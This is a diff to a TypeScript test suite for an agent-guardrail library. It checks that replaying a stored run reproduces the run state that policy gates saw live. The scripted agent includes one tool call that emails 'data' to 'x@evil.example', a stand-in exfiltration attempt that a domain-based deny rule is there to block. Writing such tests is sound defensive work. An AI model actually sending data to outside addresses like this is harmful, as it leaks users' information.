@@ -1,10 +1,17 @@
-import { createAgent, type EventStore, type StoredEventInput, tool } from "@loopguard/core";
+import {
+  createAgent,
+  type EventStore,
+  type Gate,
+  type RunView,
+  type StoredEventInput,
+  tool,
+} from "@loopguard/core";
 import { memoryEventStore, toolCallsModel } from "@loopguard/core/testing";
 import * as v from "valibot";
 import { describe, expect, it } from "vitest";
 import { policy } from "./policy.js";
 import { argDomainNotIn } from "./predicate.js";
-import { replayRuns } from "./replay-runs.js";
+import { replayRuns, replayStateAt } from "./replay-runs.js";
 import { allow, deny } from "./rule.js";
 
 const sendEmail = tool({
@@ -210,6 +217,7 @@ function syntheticRun(runId: string, at: number, to: string): StoredEventInput[]
       toolDigest: "tools",
       at,
     },
+    { type: "model-request", step: 1, maxTokens: 1024, estimateUsd: 0, requestDigest: "r", at },
     {
       type: "model-response",
       step: 1,
@@ -254,3 +262,62 @@ function syntheticRun(runId: string, at: number, to: string): StoredEventInput[]
     { type: "run-end", status: "completed", answer: "done", why: "end_turn", at },
   ];
 }
+
+describe("replay folds a run as the live loop did", () => {
+  it("gives every re-judged call the same run view its gates saw live (calls, refusals, outputs, trust, scans, spend)", async () => {
+    const store = memoryEventStore();
+    const seenLive: string[] = [];
+    const snapshot = (run: RunView) =>
+      JSON.stringify({
+        calls: run.calls,
+        refusals: run.refusals,
+        outputs: run.outputs,
+        spend: run.spend,
+      });
+    const trustedLookup = tool({
+      name: "lookup_order",
+      description: "Look up an order.",
+      input: v.object({ order_id: v.string() }),
+      trust: "trusted",
+      run: async ({ order_id }) => `Order ${order_id}: shipped to ann@acme-shop.com`,
+    });
+    const recorder: Gate = {
+      name: "recorder",
+      step: "2",
+      check(call) {
+        if (call.run) seenLive.push(snapshot(call.run));
+        return { type: "allow" as const };
+      },
+    };
+    const result = await createAgent({
+      model: scripted([
+        { name: "lookup_order", input: { order_id: "A1" } },
+        { name: "send_email", input: { to: "x@evil.example", body: "data" } },
+        { name: "send_email", input: { to: "ann@acme-shop.com", body: "hi" } },
+        { name: "lookup_order", input: { order_id: "A2" } },
+      ]),
+      tools: [sendEmail, trustedLookup],
+      store,
+      gates: [
+        recorder,
+        policy([deny("send_email", { when: argDomainNotIn("to", ["acme-shop.com"]) }), allow("*")]),
+      ],
+    }).run("Look up A1 and email the customer");
+    const events = await store.read(result.runId);
+    const decided = events
+      .map((event, index) => ({ event, index }))
+      .filter(
+        ({ event }) => event.type === "tool-call-intent" || event.type === "tool-call-refusal",
+      );
+    expect(decided).toHaveLength(4);
+    expect(seenLive).toHaveLength(4);
+    // The recorder runs first, so it saw every call, admitted or refused: replay's fold before
+    // each decision must hold exactly what the live run held when that call was judged.
+    decided.forEach(({ index }, call) => {
+      expect(snapshot(replayStateAt(events, index)), `call ${call + 1}`).toBe(seenLive[call]);
+    });
+    // And the view is not empty: the check could fail.
+    expect(JSON.parse(seenLive[3]!).outputs.length).toBeGreaterThan(0);
+    expect(JSON.parse(seenLive[3]!).refusals.length).toBe(1);
+  });
+});
